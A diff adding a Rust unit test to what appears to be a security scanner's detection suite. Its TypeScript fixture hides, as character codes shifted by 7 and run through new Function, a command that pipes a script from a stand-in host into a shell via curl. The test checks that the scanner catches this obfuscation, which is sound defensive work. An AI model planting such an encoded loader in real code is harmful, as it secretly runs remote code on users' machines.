@@ -4890,6 +4890,24 @@ fn a_closure_named_env_is_no_pipe() {
     );
 }
 
+/// Round 30: character codes shifted by a constant before they are made
+/// text, read shifted back.
+#[test]
+fn shifted_char_codes_are_read() {
+    let ts = "const _w: number[] = [CODES];\nexport function boot() {\n  return new Function(String.fromCharCode(..._w.map((n) => n - 7)))();\n}\n";
+    let ts = ts.replace("CODES", "121,108,120,124,112,121,108,47,46,106,111,112,115,107,102,119,121,118,106,108,122,122,46,48,53,108,127,108,106,90,128,117,106,47,46,106,124,121,115,39,52,122,39,111,123,123,119,122,65,54,54,127,53,108,127,104,116,119,115,108,54,112,53,122,111,39,131,39,122,111,46,48");
+    assert_eq!(
+        severity_in("src/tester.ts", &ts, "remote-code-pipe"),
+        Some(Severity::High)
+    );
+    // The same list without the shift in the script reads as nothing.
+    let plain = ts.replace("n - 7", "n");
+    assert_eq!(
+        severity_in("src/tester.ts", &plain, "remote-code-pipe"),
+        None
+    );
+}
+
 /// Round 30: a script that deletes the security scanners' workflows.
 #[test]
 fn a_script_deletes_security_workflows() {
